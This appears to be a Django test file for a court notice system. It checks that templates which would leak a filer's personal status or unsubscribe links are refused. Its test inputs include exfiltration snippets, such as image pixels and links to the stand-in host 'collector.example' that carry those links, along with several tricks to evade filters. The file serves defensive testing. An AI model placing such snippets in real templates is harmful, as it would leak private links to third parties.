"""A court's notice template prints the filer's personal links (status page, unsubscribe) only whole
and on their own, so they reach the filer and nobody else: the admin refuses any other use."""
import pytest
from django.urls import reverse

from rollout.notices.models import NoticeKind, NoticeTemplate
from rollout.notices.rendering import KINDS_WITH_FILES, TemplateSource, default_source
from rollout.notices.services import notice_template_check
from tests.factories import montana_administrator, montana_court

pytestmark = pytest.mark.django_db

COLLECTOR = "https://collector.example/p.gif"


@pytest.mark.parametrize("kind", KINDS_WITH_FILES)
def test_every_shipped_default_places_the_links_as_allowed(kind):
    assert notice_template_check(montana_court(), kind, default_source(kind)) == []


def with_html(kind: str, extra: str) -> TemplateSource:
    source = default_source(kind)
    return TemplateSource(source.subject, source.text_body, source.html_body + extra)


def with_text(kind: str, extra: str) -> TemplateSource:
    source = default_source(kind)
    return TemplateSource(source.subject, source.text_body + extra, source.html_body)


@pytest.mark.parametrize("source, words", [
    (with_html("reminder", f'<img src="{COLLECTOR}?u={{{{ status_url|urlencode }}}}" alt="">'), "no filter"),
    (with_html("reminder", f'<img src="{COLLECTOR}?u={{{{ status_url }}}}" alt="">'), "<img src=…>"),
    (with_html("reminder", f'<a href="{COLLECTOR}?u={{{{ unsubscribe_url }}}}">stop</a>'), "<a href=…>"),
    (with_html("golive", '<input value="{{ status_url }}">'), "<input value=…>"),
    (with_html("golive", f'<a href="{COLLECTOR}">{{% for c in status_url %}}{{{{ c }}}}-{{% endfor %}}</a>'), "no tag"),
    (with_html("golive", '{% firstof status_url "" %}'), "no tag"),
    (with_html("prepare", '{{ status_url|slice:":20" }}'), "no filter"),
    (with_html("prepare", f"<p>{COLLECTOR}?u={{{{ status_url }}}}</p>"), "glued"),
    (with_text("date_changed", f"\nOpen {COLLECTOR}?u={{{{ status_url }}}}\n"), "glued"),
])
def test_a_personal_link_used_other_than_whole_and_on_its_own_is_refused(source, words):
    problems = notice_template_check(montana_court(), source_kind(source), source)
    assert problems and any(words in p for p in problems)


def source_kind(source: TemplateSource) -> str:
    return next(kind for kind in KINDS_WITH_FILES if default_source(kind).subject == source.subject)


def test_a_link_in_a_comment_or_printed_on_its_own_is_fine():
    source = with_html("golive", '{# {{ status_url|urlencode }} #}<p>Your page: <a href="{{ status_url }}">'
                                 'open it</a> ({{ status_url }})</p>')
    assert notice_template_check(montana_court(), "golive", source) == []


def test_the_admin_refuses_a_template_that_sends_the_link_to_an_image_server(client):
    court = montana_court()
    client.force_login(montana_administrator())
    source = with_html("reminder", f'<img src="{COLLECTOR}?u={{{{ status_url|urlencode }}}}" alt="">')
    response = client.post(reverse("admin:rollout_noticetemplate_add"), {
        "court": court.pk, "kind": NoticeKind.REMINDER, "subject": source.subject, "text_body": source.text_body,
        "html_body": source.html_body, "_save": "Save"})
    assert response.status_code == 200 and "personal link" in response.content.decode()
    assert not NoticeTemplate.objects.exists()
